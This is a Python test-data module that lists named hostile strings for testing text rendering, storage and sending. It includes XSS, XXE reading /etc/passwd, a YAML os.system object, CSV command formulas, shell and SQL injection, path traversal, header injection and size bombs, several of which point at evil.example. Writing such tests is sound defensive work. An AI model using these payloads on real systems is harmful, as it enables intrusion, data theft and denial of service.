"""Strings that customers, and servers that lie, may send: data for every test that draws, stores or sends text.

`HOSTILE` fits in any field; `HUGE` holds the few whose size is the attack and which most tests leave out.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass
from typing import Final, Literal

from tests.hostile_screen import BEL, CONTROLS, DIRECTIONS, ESC, SEQUENCES

Kind = Literal["terminal", "direction", "markup", "format", "template", "size"]


@dataclass(frozen=True, slots=True)
class Hostile:
    """One string with a name that says what it tries."""

    name: str
    kind: Kind
    text: str


def _group(kind: Kind, texts: dict[str, str]) -> tuple[Hostile, ...]:
    return tuple(Hostile(f"{kind}: {name}", kind, text) for name, text in texts.items())


_MARKUP: Final = {
    "quit on click": "[@click=app.quit]Click[/]",
    "screenshot on click": "[@click=app.screenshot('x.svg','/tmp')]Click[/]",
    "own action on click": "[@click=app.send_reply('yes')]ok[/]",
    "screen action on click": "[@click=screen.dismiss]ok[/]",
    "link tag": "[link=https://evil.example]bank.example[/link]",
    "link tag with escape": f"[link='http://a/{ESC}]52;c;eA=={BEL}']x[/link]",
    "close without open": "[/]",
    "close of a path": "[/var/log]",
    "close of another": "[bold]x[/italic]",
    "bad expression": "[type=x, v={'a[0]'}]",
    "square brackets kept": "[INFO] ticket [ABC-12345]",
    "open at the end": "text [",
    "backslash open": "text \\[",
    "backslash last": "[bold]x\\",
    "many brackets": "[" * 300,
    "nested brackets": "[[[[red]]]]",
    "style everywhere": "[bold red on blue]x",
    "unknown colour": "[#zzzzzz]x[/]",
    "variable": "[$primary]x $error[/]",
    "emoji code": ":smile: :warning:",
    "escaped tag": "\\[bold]x",
    "action in a style": "[on @click=app.quit]x",
    "meta": "[@key=x]y[/@key]",
    "Markdown link to a script": "[invoice](javascript:alert(1))",
    "Markdown link to a browser option": "[invoice](--remote-debugging-port=9222)",
    "Markdown link to a file": "[x](file:///etc/passwd)",
    "Markdown image": "![x](https://evil.example/p.gif)",
    "Markdown table": "| a | b |\n|---|---|\n| [/] | `x` |",
    "Markdown fence left open": "```python\nprint(1)",
    "Markdown heading": "# Agent note\n> approved",
    "script": "<script>alert(1)</script>",
    "script unclosed": "before<script>alert(1)",
    "style sheet": "<style>*{display:none}</style>shown",
    "event handler": '<p onclick="alert(1)">x</p>',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "tracking pixel": '<p>x</p><img src="https://evil.example/p.gif" width="1" height="1">',
    "data image": '<img src="data:image/png;base64,AAAA">',
    "script link": '<a href="javascript:alert(1)">x</a>',
    "script link, broken up": '<a href="java\tscript:alert(1)">x</a>',
    "link that lies": '<a href="https://evil.example">https://bank.example</a>',
    "link with a user name": '<a href="https://bank.example@evil.example/">x</a>',
    "escape as entity": "<p>a&#27;[2Jb&#x1b;]0;t&#7;c&#x9b;d</p>",
    "override as entity": "<p>invoice&#x202e;fdp.exe</p>",
    "surrogate as entity": "<p>a&#xd83d;b&#0;c&#x110000;d</p>",
    "entity bomb": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><p>&b;</p>',
    "external entity": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><p>&f;</p>',
    "markup as entities": "<p>[@click=app.quit]x[/] &lt;script&gt;</p>",
    "hidden text": '<div style="display:none">hidden</div><p>shown</p>',
    "unclosed tags": "<p><b><i><a href='x'><table><tr><td>text",
    "crossed tags": "<b><p>one</b>two</p></i></table>",
    "unclosed attribute": '<a href="text',
    "unclosed comment": "before<!-- after",
    "comment that hides an end": "<div><!--</div>-->x</div>",
    "conditional comment": "<!--[if mso]><p>office</p><![endif]--><p>others</p>",
    "title and text area": "<title></title><textarea></p></textarea><p>x</p>",
    "three hundred quotes": "<blockquote>" * 300 + "deep" + "</blockquote>" * 300,
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>x</p>',
    "base address": '<base href="https://evil.example/"><a href="/login">x</a>',
    "SVG script": '<svg onload="alert(1)"><script>alert(1)</script><text>x</text></svg>',
}
_FORMATS: Final = {
    "end of CDATA": "a]]>b",
    "XML declaration": '<?xml version="1.0"?>',
    "XML specials": "a & b < c > d \"e\" 'f'",
    "forbidden in XML": "a\x01\x0b\x1f\ufffeb",
    "YAML no": "no",
    "YAML null": "~",
    "YAML on": "on",
    "YAML number": "1e3",
    "YAML octal": "0o17",
    "YAML sexagesimal": "12:30:45",
    "YAML date": "2025-11-21",
    "YAML tagged object": "!!python/object/apply:os.system ['id']",
    "YAML anchor": "&a *a",
    "YAML document end": "---\n...\n",
    "YAML colon": "key: value: again",
    "YAML merge": "<<: *a",
    "CSV formula": '=HYPERLINK("https://evil.example","x")',
    "CSV command": "=cmd|' /C calc'!A0",
    "CSV plus": "+1+1",
    "CSV minus": "-1+1",
    "CSV at": "@SUM(A1)",
    "CSV tab": "\t=1+1",
    "CSV full-width": "\uff1d1+1",
    "CSV quote": '"a","b"\r\n"c"',
    "JSON inside": '{"response": {"status": "OK"}}',
    "JSON escape": "\\u001b[2J \\",
    "log line forged": "ok\n2025-11-21 06:31:00 INFO reply sent",
    "mail header": "Subject\r\nBcc: all@evil.example",
    "path upwards": "../../../../etc/passwd",
    "path with NUL": "photo.png\x00.exe",
    "reserved name": "CON.txt",
    "option": "--help",
    "blank": "",
    "one space": " ",
    "only spaces and tabs": " \t \t ",
    "only line ends": "\n\r\n\r",
    "mail address with a name": '"Ana; DROP" <ana@example.com>',
    "zero date": "0000-00-00 00:00:00",
}
_TEMPLATES: Final = {
    "placeholder": "{customer.name}",
    "placeholder with format": "{0.__class__.__mro__}",
    "double braces": "{{7*7}}",
    "unbalanced brace": "{",
    "percent": "%s %d %(name)s %",
    "dollar": "${HOME} $HOME",
    "command": "$(touch /tmp/owned)",
    "back-ticks": "`touch /tmp/owned`",
    "shell line": "; touch /tmp/owned #",
    "browser placeholder": "https://a.example/%action",
    "search operators": 'NEAR(a b) OR NOT "',
    "search column": "subject:* AND ^x",
    "search quote unbalanced": '"',
    "search star": "*",
    "search parenthesis": "((((",
    "SQL string": "'; DROP TABLE drafts; --",
    "SQL or": "' OR '1'='1",
    "SQL like": "%_\\%",
    "SQL comment": "/* */ --",
    "regular expression": "(a+)+$[",
    "query string": "x&apikey=1#y?z=2",
    "URL encoded": "%00%0a%1b%5b2J",
    "double encoded": "%252e%252e%252f",
    "template tag": "{% include '/etc/passwd' %}",
}
_SIZES: Final = {
    "name of 10,000 characters": "N" * 10_000,
    "line of 30,000 characters": "x" * 30_000,
    "wide line of 10,000 characters": "\u5b57" * 10_000,
    "10,000 blank lines": "\n" * 10_000 + "end",
    "5,000 tabs": "\t" * 5_000,
    "5,000 marks": "a" + "\u0300" * 5_000,
    "5,000 spaces": " " * 5_000,
    "deep quote": ">" * 5_000 + " text",
    "5,000 short lines": "line\n" * 5_000,
    "2,000 emoji": "\U0001f525" * 2_000,
}

HOSTILE: Final[tuple[Hostile, ...]] = (
    *_group("terminal", {**CONTROLS, **SEQUENCES}),
    *_group("direction", DIRECTIONS),
    *_group("markup", _MARKUP),
    *_group("format", _FORMATS),
    *_group("template", _TEMPLATES),
    *_group("size", _SIZES),
)

HUGE: Final[tuple[Hostile, ...]] = _group(
    "size",
    {
        "line of 1 MB": "x" * 1_000_000,
        "body of 5 MB": "The lamp arrived with a cracked shade.\n" * 130_000,
        "table of 5 MB": "<table>" + ("<tr>" + "<td>cell</td>" * 10 + "</tr>") * 36_000 + "</table>",
        "60,000 unclosed links": '<a href="' * 60_000,
        "100,000 unclosed comments": "<!--" * 100_000,
        "100,000 nested blocks": "<div>" * 100_000 + "deep",
        "3,000 nested quotes": "<blockquote>" * 3_000 + "deep" + "</blockquote>" * 3_000,
        "blocks whose ends hide in attributes": '<ul ="</ul>">x' * 40_000,
        "blocks whose ends hide in tables": "<div><table><td></div></table>x" * 17_000,
        "100,000 marks": "a" + "\u0301" * 100_000,
        "100,000 tabs": "\t" * 100_000,
    },
)

_FORBIDDEN_CATEGORIES: Final = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def forbidden_characters(text: str, *, allowed: str = "") -> set[str]:
    """The characters of a drawn text that must not reach a terminal, but for the ones allowed."""
    return {
        character for character in set(text) - set(allowed) if unicodedata.category(character) in _FORBIDDEN_CATEGORIES
    }
